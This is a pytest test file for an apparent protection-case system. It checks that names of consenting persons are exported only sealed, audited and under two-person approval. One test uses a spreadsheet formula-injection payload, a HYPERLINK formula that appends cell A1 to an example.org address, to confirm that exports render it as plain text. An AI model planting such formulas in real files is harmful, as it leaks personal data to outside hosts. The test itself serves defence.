"""Names leave the house by two persons, sealed, marked, and only of people who agreed to just that."""

import csv
from io import BytesIO, StringIO

import openpyxl
import pytest

from tabara import codelists
from tabara.access.errors import NotFound, Refused
from tabara.access.models import Approval, AuditEvent, Member
from tabara.access.second import NotApproved
from tabara.protection.cases.models import Case
from tabara.protection.cases.operations import record_consent, withdraw_consent
from tabara.protection.intake import operations as intake
from tabara.protection.intake import outgoing
from tabara.protection.intake.models import Recipient
from tabara.sealing.recipients import NotForUs, new_identity, open_sealed
from tests.factories import NOW, TODAY, approved, fresh, make_agency, make_member, register

pytestmark = pytest.mark.django_db(databases="__all__")
SECRET, PUBLIC = new_identity()
FORMULA = '=HYPERLINK("http://example.org/?"&A1)'


@pytest.fixture
def supervisor() -> Member:
    return fresh(make_member("supervisor", username="asker"))


@pytest.fixture
def officer() -> Member:
    return fresh(make_member("data_protection_officer"))


@pytest.fixture
def office(supervisor, officer) -> Recipient:
    return taken_in(supervisor, officer)


def taken_in(by: Member, second: Member, key: str = PUBLIC) -> Recipient:
    row = intake.name_recipient(by=by, at=NOW, office="Prosecutor of Ihuriro", key=key)
    approval = approved(by, "intake.confirm_recipient", second=second, recipient=row)
    return intake.confirm_recipient(by=by, at=NOW, recipient=row, approval=approval)


def agreed(by: Member, purpose: str = "justice", **names) -> Case:
    case = register(by, **names)
    record_consent(by=by, at=NOW, case=case, purpose=purpose, given=True, asked_on=TODAY, language="fr")
    return case


def export(by: Member, approval: Approval | None, office: Recipient, cases: list[Case], **more):
    given = {"recipient": office, "purpose": "justice", "shape": "csv", "cases": cases, **more}
    return intake.export_identities(by=by, at=NOW, approval=approval, **given)


def ask(by: Member, second: Member, office: Recipient, cases: list[Case], **more) -> Approval:
    given = {"recipient": office, "purpose": "justice", "shape": "csv", "cases": cases, **more}
    return approved(by, "intake.export_identities", second=second, **given)


def rows_of(file: intake.SealedFile) -> list[list[str]]:
    return list(csv.reader(StringIO(open_sealed(SECRET, file.sealed).decode("utf-8-sig"), newline="")))


def test_who_agreed_is_exported_sealed_and_marked_in_every_row(supervisor, officer, office) -> None:
    case = agreed(supervisor, given="Odette", surname="Niragira")
    approval = ask(supervisor, officer, office, [case])
    file = export(supervisor, approval, office, [case])
    titles, row = rows_of(file)
    assert titles[-1] == "Exported by, when, approval"
    assert row[:3] == [case.code, "Odette", "Niragira"]
    assert row[-1] == f"asker 2026-03-02 09:30 {approval.code}"
    assert file.name == f"tabara-{approval.code}.csv.age"
    with pytest.raises(NotForUs):
        open_sealed(new_identity()[0], file.sealed)
    assert b"Odette" not in file.sealed


def test_each_persons_own_record_remembers_the_export(supervisor, officer, office) -> None:
    case = agreed(supervisor)
    approval = ask(supervisor, officer, office, [case])
    export(supervisor, approval, office, [case])
    event = AuditEvent.objects.get(operation="intake.export_identity")
    assert (event.subject, event.reason, event.thing, event.outcome) == (case.pk, "justice", str(approval.pk), "shown")


def test_a_name_that_is_a_formula_is_a_text_in_both_kinds_of_file(supervisor, officer, office) -> None:
    case = agreed(supervisor, given=FORMULA)
    row = rows_of(export(supervisor, ask(supervisor, officer, office, [case]), office, [case]))[1]
    assert row[1] == "'" + FORMULA
    as_book = {"shape": "xlsx"}
    file = export(supervisor, ask(supervisor, officer, office, [case], **as_book), office, [case], **as_book)
    sheet = openpyxl.load_workbook(BytesIO(open_sealed(SECRET, file.sealed))).active
    cell = sheet.cell(2, 2)
    assert (cell.value, cell.data_type) == (FORMULA, "s")
    assert "asker 2026-03-02" in sheet.oddHeader.left.text


def test_whoever_did_not_agree_to_this_purpose_is_in_no_file(supervisor, officer, office) -> None:
    other = agreed(supervisor, purpose="return")
    with pytest.raises(Refused, match=f"case {other.code} does not agree"):
        ask(supervisor, officer, office, [other])
    third = agreed(supervisor)
    days = {"since": TODAY, "until": TODAY.replace(day=3), "most": 200}
    assert outgoing.exportable(by=supervisor, consent="justice", **days) == [third]
    assert outgoing.exportable(by=supervisor, consent="return", **days) == [other]
    stranger = make_member("supervisor", agency=make_agency("away"))
    assert outgoing.exportable(by=stranger, consent="return", **days) == []


def test_an_agreement_taken_back_after_the_approval_stops_the_file(supervisor, officer, office) -> None:
    case = agreed(supervisor)
    approval = ask(supervisor, officer, office, [case])
    withdraw_consent(by=supervisor, at=NOW, case=case, purpose="justice")
    with pytest.raises((NotApproved, Refused)):
        export(supervisor, approval, office, [case])


def test_a_case_slipped_in_after_the_approval_stops_the_file(supervisor, officer, office) -> None:
    first, second = agreed(supervisor), agreed(supervisor)
    approval = ask(supervisor, officer, office, [first])
    for cases in ([first, second], [second], []):
        with pytest.raises(NotApproved, match="Something changed"):
            export(supervisor, approval, office, cases)


def test_another_office_or_purpose_than_the_approved_one_stops_the_file(supervisor, officer, office) -> None:
    case = agreed(supervisor)
    elsewhere = taken_in(supervisor, officer, new_identity()[1])
    approval = ask(supervisor, officer, office, [case])
    for other in ({"office": elsewhere}, {"purpose": "return"}, {"shape": "xlsx"}):
        with pytest.raises(NotApproved, match="Something changed"):
            export(supervisor, approval, other.pop("office", office), [case], **other)


def test_another_agencys_case_does_not_exist_here(supervisor, officer, office) -> None:
    stranger = agreed(make_member("supervisor", agency=make_agency("away")))
    with pytest.raises(NotFound):
        ask(supervisor, officer, office, [stranger])


def test_more_people_than_the_pack_allows_are_refused(supervisor, officer, office, monkeypatch) -> None:
    monkeypatch.setitem(codelists.pack().parameters, "export_rows_at_most", 1)
    cases = [agreed(supervisor), agreed(supervisor)]
    with pytest.raises(Refused, match="at most 1 people; these are 2"):
        ask(supervisor, officer, office, cases)


def test_nothing_is_sealed_to_an_office_that_one_person_named(supervisor, officer) -> None:
    row = intake.name_recipient(by=supervisor, at=NOW, office="Prosecutor", key=PUBLIC)
    with pytest.raises(Refused, match="two persons agreed on"):
        ask(supervisor, officer, row, [agreed(supervisor)])


def test_nothing_is_sealed_to_an_office_that_was_struck_off(supervisor, officer, office) -> None:
    case = agreed(supervisor)
    approval = ask(supervisor, officer, office, [case])
    intake.close_recipient(by=officer, at=NOW, recipient=office)
    with pytest.raises(NotApproved, match="Something changed"):
        export(supervisor, approval, office, [case])


@pytest.mark.parametrize(
    ("office", "key", "sentence"),
    [("", PUBLIC, "name of the office"), ("Court", "age1x", "begins with age1"), ("Court", SECRET, "begins with age1")],
    ids=["no name", "no key", "a secret key"],
)
def test_an_office_without_a_name_or_a_public_key_is_refused(supervisor, office, key, sentence) -> None:
    with pytest.raises(Refused, match=sentence):
        intake.name_recipient(by=supervisor, at=NOW, office=office, key=key)
    assert Recipient.objects.count() == 0


def test_a_key_exchanged_after_the_approval_is_not_taken_in(supervisor, officer) -> None:
    row = intake.name_recipient(by=supervisor, at=NOW, office="Prosecutor", key=PUBLIC)
    approval = approved(supervisor, "intake.confirm_recipient", second=officer, recipient=row)
    Recipient.objects.filter(pk=row.pk).update(key=new_identity()[1])
    with pytest.raises(NotApproved, match="Something changed"):
        intake.confirm_recipient(by=supervisor, at=NOW, recipient=row, approval=approval)


def test_no_name_stands_in_what_was_approved(supervisor, officer, office) -> None:
    case = agreed(supervisor, given="Odette", surname="Niragira")
    approval = ask(supervisor, officer, office, [case])
    stored = str(list(Approval.objects.values()))
    assert ("Odette" in stored, "Niragira" in stored, case.code in stored) == (False, False, True)
    assert approval.arguments["purpose"] == "justice"
